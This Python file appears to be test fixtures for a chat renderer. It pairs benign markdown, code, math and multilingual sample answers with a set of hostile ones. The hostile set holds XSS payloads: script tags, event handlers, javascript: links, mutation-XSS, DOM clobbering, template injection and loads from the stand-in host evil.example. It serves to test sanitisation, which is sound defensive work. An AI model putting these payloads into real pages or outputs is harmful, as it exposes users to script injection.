"""Sixty answers as models write them and as nobody should: each construct, each language, each way of writing a script.

Whatever of them ran would set `window.hacked`; whatever loaded would ask evil.example.
"""

from typing import Final

_ALERT = "window.hacked = true"

READABLE: Final = {
    "letter": "Dear neighbour,\n\nwould you mind turning the music down after **ten in the evening**? "
    "We have a small child who sleeps lightly.\n\nKind regards,  \nAnna",
    "headings": "# Photosynthesis\n\nPlants turn light into sugar.\n\n## The light reactions\n\nThey happen in the thylakoids.\n\n"
    "### Photosystem II\n\nWater is split.\n\n#### A detail\n\nFour photons.\n\n##### Smaller\n\ntext\n\n###### Smallest\n\ntext",
    "setext": "A title\n=======\n\nA subtitle\n----------\n\nAnd text.",
    "lists": "1. First the flour\n2. Then the eggs\n   - three of them\n   - beaten\n     1. gently\n     2. with a fork\n3. Milk\n\n"
    "* loose\n\n* items\n\n  with a second paragraph",
    "list from seven": "7. seven\n8. eight\n\nand then\n\n3) three\n4) four",
    "tasks": "- [ ] buy milk\n- [x] feed the **cat**\n- [X] water the plants",
    "quotation": "> Whereof one cannot speak,\n> thereof one must be silent.\n>\n> > A quotation in it.\n\nSo he said.",
    "table": "| Planet | Moons | Remarks |\n|:-------|------:|:-------:|\n| Mercury | 0 | *hot* |\n| Earth | 1 | `home` |\n"
    "| Saturn | 146 | **rings** and more than anybody would have thought, all of ice and dust |",
    "wide table": "|"
    + "".join(f" Column {n} |" for n in range(14))
    + "\n|"
    + "---|" * 14
    + "\n"
    + ("|" + " some value |" * 14 + "\n") * 3,
    "table with bars": "| a \\| b | c |\n|---|---|\n| `x \\| y` | 1 |\n| only one |\n| one | two | three |",
    "python": 'Like so:\n\n```python\nfrom dataclasses import dataclass\n\n\n@dataclass\nclass Point:\n    """A place."""\n\n'
    "    x: float = 0.0  # metres\n    y: float = 0.0\n\n    def far(self) -> bool:\n        return abs(self.x) > 1_000 or not self.y\n```\n\n"
    "Call `Point().far()`.",
    "javascript": "```js\nconst sum = (a, b) => a + b; // `adds`\nexport default class Foo extends Bar { /* */ }\nconst t = `${sum(1, 2)}`;\n```",
    "sql": "```sql\nSELECT name, COUNT(*) AS n FROM people WHERE age > 30 GROUP BY name ORDER BY n DESC; -- all\n```",
    "html code": '```html\n<!doctype html>\n<p class="x" onclick="f()">Hello <b>you</b></p>\n<script>let a = 1 < 2;</script>\n```',
    "diff": "```diff\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old line\n+new line\n context\n```",
    "bash": "```bash\n#!/bin/sh\nfor f in *.txt; do echo \"$f\" | sed 's/a/b/'; done\n```",
    "rust": '```rust\nfn main() {\n    let s: &str = "hi"; // greet\n    println!("{s}");\n}\n```',
    "json": '```json\n{"a": [1, 2.5, null, true], "b": "text"}\n```',
    "unknown language": "```klingon\nnuqneH <b>\n```\n\n~~~\nno language at all\n~~~\n\n    indented code\n      more",
    "a long line of code": "```\n"
    + "x = "
    + " + ".join(f"variable_{n}" for n in range(60))
    + "\n```",
    "unclosed code": "And the code:\n\n```python\ndef f():\n    return 1\n",
    "code in code": "````markdown\n```python\nprint(1)\n```\n````\n\nand ``a ` b`` inline",
    "formulas": "The area is $A = \\pi r^2$, and\n\n$$\n\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}\n$$\n\nor with brackets \\(\\frac{a}{b}\\):\n\n"
    "\\[\n\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}\n\\]",
    "matrices": "$$\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix} \\begin{bmatrix} 1 \\\\ 0 \\end{bmatrix}$$\n\n"
    "$$f(x) = \\begin{cases} 1 & x > 0 \\\\ 0 & \\text{otherwise} \\end{cases}$$",
    "aligned": "\\[\n\\begin{aligned}\na &= b + c \\\\\n  &= d\n\\end{aligned}\n\\]",
    "bad formulas": "Here $\\frac{a$ and \\(\\begin{matrix} a\\) and $$\\left( x$$ and $x_{1_{2$ stay as they are.",
    "money": "It costs $5, or $10 with shipping; US$20 at most.",
    "a long formula": "$$" + " + ".join(f"x_{{{n}}}^2" for n in range(60)) + "$$",
    "links": "See [the docs](https://example.org/a?b=c&d=e#f), <https://example.org>, <anna@example.org>, "
    '[mail](mailto:anna@example.org) or [the book][1].\n\n[1]: https://example.org/book "A title"',
    "an address": "Read https://example.org/not/linked by itself.",
    "breaks": "Roses are red,\nviolets are blue,  \nsugar is sweet\\\nand so are you.",
    "escapes": "\\*not italic\\* \\# not a title 1\\. \\<b\\> &lt;b&gt; &amp;amp; &copy; &#x1F600; &nbsp;end",
    "rule": "Above\n\n---\n\nBelow\n\n* * *\n\n___",
    "emphasis": "***both*** **bold *in* bold** _under_ snake_case_name 2*3*4 **unclosed and ~~struck~~ ~one~",
    "hebrew": "הבירה של פרו היא **לימה**.\n\n- ראשון\n- שני\n\nThe capital of Peru is Lima.\n\n> ציטוט",
    "arabic": "# مرحبا بالعالم\n\nهذا نص مع `code` ورابط [هنا](https://example.org).\n\n1. واحد\n2. اثنان",
    "mixed directions": "He said: שלום עולם, and left.\nשלום, he said.",
    "chinese": "# 光合作用\n\n植物利用**光能**将二氧化碳和水转化为葡萄糖。\n\n| 阶段 | 地点 |\n|---|---|\n| 光反应 | 类囊体 |",
    "japanese": "吾輩は猫である。名前はまだ無い。どこで生れたか頓と見当がつかぬ。" * 4,
    "korean": "안녕하세요! *기울임* 그리고 **굵게**.",
    "emoji": "👩‍👩‍👧‍👦 🇵🇪 👍🏽 😀 **🎉 party** `😀` and e\u0301 combining",
    "long word": "x" * 600 + " and https://example.org/" + "a/" * 200,
    "long word in a table": "| a | b |\n|---|---|\n| " + "y" * 300 + " | z |",
    "thoughts": "<think>\nThe user asks for a **capital**. Peru... it is Lima.\n\n- sure? yes\n\n```python\nprint('Lima')\n```\n</think>\n\nLima.",
    "thoughts unfinished": "<thinking>\nLet me think about this for a while",
    "zalgo": "H\u0335\u0321e\u0336\u0322l\u0337\u0323l\u0338\u0324o\u0334\u0325 and \u202ereversed\u202c text",
    "nested": "> 1. a\n>    > - b\n>    >   ```py\n>    >   x = 1\n>    >   ```\n>    > | t | u |\n>    > |---|---|\n>    > | 1 | 2 |",
    "deep": "".join("  " * depth + f"- level {depth}\n" for depth in range(9)),
}
"""Answers that should look well."""

HOSTILE: Final = {
    "scripts": f"<script>{_ALERT}</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n\n<script\n>{_ALERT}</script\n>",
    "handlers": f'<img src=x onerror="{_ALERT}"> <svg onload={_ALERT}> <body onload={_ALERT}> <details open ontoggle={_ALERT}> '
    f"<input autofocus onfocus={_ALERT}>",
    "links that run": f"[a](javascript:{_ALERT}) [b](JAVASCRIPT:{_ALERT}) [c](java\nscript:{_ALERT}) [d](&#106;avascript:{_ALERT}) "
    f"[e](vbscript:{_ALERT}) [f](data:text/html,<script>{_ALERT}</script>) <javascript:{_ALERT}> [g][r]\n\n[r]: javascript:{_ALERT}",
    "links that break out": f"[a](https://evil.example/\"onclick=\"{_ALERT}) [b](<https://evil.example/'onclick='{_ALERT}>) "
    f'[c](https://evil.example "t\\" onmouseover=\\"{_ALERT}") [d](https://user@evil.example:1/\\"><script>{_ALERT}</script>)',
    "images": "![a](https://evil.example/pixel.png) ![b](javascript:alert(1)) ![c](data:image/svg+xml,<svg/onload=alert(1)>) "
    '!["onerror="x](https://evil.example/"onerror="y) [![link](https://evil.example/a.png)](https://evil.example/b) ![d][i]\n\n'
    "[i]: https://evil.example/c.png",
    "frames and styles": "<iframe src=https://evil.example></iframe><style>@import 'https://evil.example/x.css'; .vote{display:none}</style>"
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example><meta http-equiv=refresh content=0;url=https://evil.example>"
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "mutations": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_ALERT}&gt;">\n\n'
    f'<svg><foreignObject><p><style><a title="</style><img src=x onerror={_ALERT}>"></foreignObject></svg>\n\n'
    f'<noscript><p title="</noscript><img src=x onerror={_ALERT}>"> <form><math><mtext></form><form><mglyph><style></math><img src onerror={_ALERT}>',
    "comments": f"<!-- a --><!--><img src=x onerror={_ALERT}>--> <![CDATA[<img src=x onerror={_ALERT}>]]> <?php {_ALERT} ?> <!DOCTYPE x>",
    "clobbering": "<a id=compare name=outbox></a><form id=keys><input name=attributes></form><img name=getElementById> # {#keys} "
    "<div id=gradio_config class=vote data-act=like data-choice=best>x</div>",
    "formulas that run": f"$\\href{{javascript:{_ALERT}}}{{x}}$ $\\class{{vote}}{{y}}$ $\\style{{position:fixed}}{{z}}$ "
    f"$\\text{{<img src=x onerror={_ALERT}>}}$ $\\unicode{{60}}$ $\\includegraphics{{https://evil.example/x.png}}$ $<img src=x onerror={_ALERT}>$",
    "code that runs": f'```"><img src=x onerror={_ALERT}>\n</code></pre><script>{_ALERT}</script>\n```\n\n`</code><img src=x onerror={_ALERT}>`\n\n'
    f"```html onload={_ALERT}\n<img src=x onerror={_ALERT}>\n```",
    "tables and lists that run": f"| <img src=x onerror={_ALERT}> | [a](javascript:{_ALERT}) |\n|---|---|\n| <svg/onload={_ALERT}> | `<script>` |\n\n"
    f"- <img src=x onerror={_ALERT}>\n- [ ] <input onfocus={_ALERT} autofocus>\n\n> <iframe srcdoc='<script>{_ALERT}</script>'>",
    "thoughts that run": f"<think onclick={_ALERT}>\n<think>\n<img src=x onerror={_ALERT}>\n</think><script>{_ALERT}</script>\n\n</think>",
    "templates": "{{constructor.constructor('window.hacked = true')()}} ${window.hacked = true} {% raw %} `${window.hacked = true}` <%= 1 %>",
}
"""Answers that try to do something."""

ANSWERS: Final = READABLE | HOSTILE
